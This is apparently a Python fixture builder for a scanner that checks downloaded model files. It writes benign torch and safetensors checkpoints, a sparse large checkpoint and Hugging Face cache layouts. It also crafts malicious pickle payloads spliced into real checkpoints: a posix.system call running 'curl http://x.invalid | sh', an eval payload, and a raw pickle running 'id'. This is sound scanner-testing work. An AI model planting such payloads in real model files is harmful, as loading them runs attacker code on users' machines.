"""Builders for the remote-scan fixtures (real torch checkpoints, safetensors, malicious pickles,
a sparse 1 GB checkpoint and Hugging Face cache trees).

Malicious files are written as raw bytes (the pickle payloads are literal byte strings spliced
into real torch.save output); nothing here ever loads a pickle. Must run under /usr/bin/python3
(Debian's python3-torch).
"""

from __future__ import annotations

import collections
import hashlib
import io
import json
import os
import pickle
import struct
import zipfile
import zlib

import torch

# ------------------------------------------------------------------------------------------
# Benign artefacts


def tiny_distilbert_state_dict():
    """A tiny-distilbert-like state dict (real tensors, deterministic)."""
    g = torch.Generator().manual_seed(1234)
    sd = collections.OrderedDict()
    sd["distilbert.embeddings.word_embeddings.weight"] = torch.randn(64, 8, generator=g)
    sd["distilbert.embeddings.position_embeddings.weight"] = torch.randn(16, 8, generator=g)
    sd["distilbert.embeddings.LayerNorm.weight"] = torch.ones(8)
    sd["distilbert.embeddings.LayerNorm.bias"] = torch.zeros(8)
    sd["distilbert.transformer.layer.0.attention.q_lin.weight"] = torch.randn(8, 8, generator=g)
    sd["distilbert.transformer.layer.0.attention.q_lin.bias"] = torch.zeros(8)
    sd["distilbert.transformer.layer.0.ffn.lin1.weight"] = torch.randn(16, 8, generator=g)
    sd["distilbert.transformer.layer.0.ffn.lin1.bias"] = torch.zeros(16)
    sd["classifier.weight"] = torch.randn(2, 8, generator=g)
    sd["classifier.bias"] = torch.zeros(2)
    return sd


def torch_save_bytes(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)                     # zip format, members under "archive/"
    return buf.getvalue()


def safetensors_bytes(tensors: dict) -> bytes:
    """safetensors written by hand per the spec: u64 LE header length, JSON header, data."""
    header, blobs, off = {}, [], 0
    for name, t in tensors.items():
        data = t.contiguous().numpy().tobytes()
        header[name] = {"dtype": "F32", "shape": list(t.shape), "data_offsets": [off, off + len(data)]}
        blobs.append(data)
        off += len(data)
    header["__metadata__"] = {"format": "pt"}
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + b"".join(blobs)


CONFIG_JSON = json.dumps({
    "architectures": ["DistilBertForSequenceClassification"], "model_type": "distilbert",
    "dim": 8, "hidden_dim": 16, "n_heads": 2, "n_layers": 1, "vocab_size": 64,
    "max_position_embeddings": 16}, indent=2).encode()

TOKENIZER_CONFIG_JSON = json.dumps({
    "model_max_length": 16, "tokenizer_class": "DistilBertTokenizer",
    "chat_template": "{% for message in messages %}{{ message['role'] }}: "
                     "{{ message['content'] }}\n{% endfor %}"}, indent=2).encode()


def benign_repo_files():
    sd = tiny_distilbert_state_dict()
    return {
        "config.json": CONFIG_JSON,
        "pytorch_model.bin": torch_save_bytes(sd),
        "model.safetensors": safetensors_bytes(sd),
        "tokenizer_config.json": TOKENIZER_CONFIG_JSON,
        "README.md": b"# tiny model\nA benign test model.\n",
    }


# ------------------------------------------------------------------------------------------
# Malicious artefacts (bytes only)

# protocol-2 GLOBAL + REDUCE, result popped, then the real state dict pickle continues.
_SHELL_CMD = b"curl http://x.invalid | sh"
POSIX_SYSTEM_PREFIX = (b"cposix\nsystem\n"
                       b"X" + struct.pack("<I", len(_SHELL_CMD)) + _SHELL_CMD +
                       b"\x85R0")
# ykilcher/totally-harmless-model style: `__builtin__ eval` in archive/data.pkl.
_EVAL_CODE = b"__import__('webbrowser').open('https://www.youtube.com/watch?v=dQw4w9WgXcQ')"
BUILTIN_EVAL_PREFIX = (b"c__builtin__\neval\n"
                       b"X" + struct.pack("<I", len(_EVAL_CODE)) + _EVAL_CODE +
                       b"\x85R0")

RAW_POSIX_SYSTEM_PICKLE = b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."


def inject_into_torch_zip(ckpt: bytes, prefix_ops: bytes) -> bytes:
    """Rewrite archive/data.pkl of a real torch zip: PROTO 2 + prefix_ops + original body."""
    src = zipfile.ZipFile(io.BytesIO(ckpt))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("/data.pkl"):
                assert data[:2] == b"\x80\x02", data[:2]
                data = data[:2] + prefix_ops + data[2:]
            dst.writestr(info.filename, data)
    return out.getvalue()


def malicious_checkpoint(kind="posix_system") -> bytes:
    ckpt = torch_save_bytes(tiny_distilbert_state_dict())
    prefix = POSIX_SYSTEM_PREFIX if kind == "posix_system" else BUILTIN_EVAL_PREFIX
    return inject_into_torch_zip(ckpt, prefix)


# ------------------------------------------------------------------------------------------
# A big checkpoint built by hand (sparse data member)

class _StorageRef:
    pass


class _TensorRef:
    def __init__(self, numel):
        self.numel = numel
        self.storage = _StorageRef()

    def __reduce__(self):
        return (torch._utils._rebuild_tensor_v2,
                (self.storage, 0, (self.numel,), (1,), False, collections.OrderedDict()))


def torch_data_pkl(numel: int, key="weight") -> bytes:
    """The data.pkl torch.save writes for {key: FloatTensor(numel)} (byte-identical to torch
    1.13 output for the same shape; checked by test_fixture_sanity)."""
    buf = io.BytesIO()
    p = pickle.Pickler(buf, protocol=2)
    p.persistent_id = lambda o: (("storage", torch.FloatStorage, "0", "cpu", numel)
                                 if isinstance(o, _StorageRef) else None)
    p.dump({key: _TensorRef(numel)})
    return buf.getvalue()


_ZERO_CHUNK = bytes(1 << 24)


def _zeros_crc(n: int) -> int:
    crc, left = 0, n
    while left:
        k = min(left, len(_ZERO_CHUNK))
        crc = zlib.crc32(memoryview(_ZERO_CHUNK)[:k], crc)
        left -= k
    return crc


def _zeros_sha(n: int, sha):
    left = n
    while left:
        k = min(left, len(_ZERO_CHUNK))
        sha.update(memoryview(_ZERO_CHUNK)[:k])
        left -= k


def write_sparse_torch_zip(path, numel: int, key="weight"):
    """Write a torch zip checkpoint {key: zeros(numel, float32)} whose data member is a hole.

    Returns (size, sha256 hex). No zip64 needed below 4 GiB. Data is 64-byte aligned with an
    'FB' padding extra field, like torch's writer.
    """
    members = [("archive/data.pkl", torch_data_pkl(numel, key)),
               ("archive/data/0", numel * 4),       # int: a zero-filled hole of that size
               ("archive/version", b"3\n")]
    sha = hashlib.sha256()
    central = []
    pos = 0
    with open(path, "wb") as f:
        def put(b):
            nonlocal pos
            f.write(b)
            sha.update(b)
            pos += len(b)
        for name, data in members:
            nb = name.encode()
            size = data if isinstance(data, int) else len(data)
            if isinstance(data, int):
                pad_base = pos + 30 + len(nb) + 4
                pad = -pad_base % 64
                extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
                crc = None
            else:
                extra = b""
                crc = zlib.crc32(data)
            if crc is None:
                crc = _zeros_crc(size)
            off = pos
            put(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21,
                            crc, size, size, len(nb), len(extra)) + nb + extra)
            if isinstance(data, int):
                f.seek(size, os.SEEK_CUR)           # leave a hole
                _zeros_sha(size, sha)
                pos += size
            else:
                put(data)
            central.append((nb, crc, size, off))
        cd_start = pos
        for nb, crc, size, off in central:
            put(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21,
                            crc, size, size, len(nb), 0, 0, 0, 0, 0, off) + nb)
        cd_size = pos - cd_start
        put(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central),
                        cd_size, cd_start, 0))
    return pos, sha.hexdigest()


# ------------------------------------------------------------------------------------------
# Hugging Face cache trees (§8 of hf-protocol.md)

def sha256_hex(b: bytes) -> str:
    return hashlib.sha256(b).hexdigest()


def git_blob_sha1(b: bytes) -> str:
    return hashlib.sha1(b"blob %d\0" % len(b) + b).hexdigest()


def commit_id(*parts) -> str:
    return hashlib.sha1("\0".join(parts).encode()).hexdigest()


def repo_folder(repo_id: str, repo_type="model") -> str:
    return {"model": "models", "dataset": "datasets", "space": "spaces"}[repo_type] + "--" + \
        repo_id.replace("/", "--")


class CacheRepo:
    """Lays out one repo of a huggingface_hub cache."""

    def __init__(self, cache_dir, repo_id, repo_type="model"):
        self.cache_dir = cache_dir
        self.repo_id = repo_id
        self.repo_type = repo_type
        self.dir = os.path.join(cache_dir, repo_folder(repo_id, repo_type))
        for d in ("blobs", "refs", "snapshots"):
            os.makedirs(os.path.join(self.dir, d), exist_ok=True)
        os.makedirs(os.path.join(cache_dir, ".locks", repo_folder(repo_id, repo_type)),
                    exist_ok=True)

    def blob(self, content: bytes, lfs=None, name=None) -> str:
        """Store content; the name is sha256 for "LFS" (> 1 KB) files, else git sha1."""
        if name is None:
            lfs = len(content) > 1024 if lfs is None else lfs
            name = sha256_hex(content) if lfs else git_blob_sha1(content)
        p = os.path.join(self.dir, "blobs", name)
        with open(p, "wb") as f:
            f.write(content)
        open(os.path.join(self.cache_dir, ".locks", repo_folder(self.repo_id, self.repo_type),
                          name + ".lock"), "wb").close()
        return name

    def link(self, commit: str, path: str, blob_name: str) -> str:
        """snapshots/<commit>/<path> -> ../../blobs/<name> (one more ../ per subdir)."""
        dst = os.path.join(self.dir, "snapshots", commit, *path.split("/"))
        os.makedirs(os.path.dirname(dst), exist_ok=True)
        depth = path.count("/")
        target = "../" * (2 + depth) + "blobs/" + blob_name
        os.symlink(target, dst)
        return dst

    def add(self, commit: str, path: str, content: bytes, **kw) -> str:
        return self.link(commit, path, self.blob(content, **kw))

    def ref(self, name: str, commit: str):
        p = os.path.join(self.dir, "refs", *name.split("/"))
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write(commit)                  # no newline, like huggingface_hub

    def no_exist(self, commit: str, path: str):
        p = os.path.join(self.dir, ".no_exist", commit, *path.split("/"))
        os.makedirs(os.path.dirname(p), exist_ok=True)
        open(p, "wb").close()
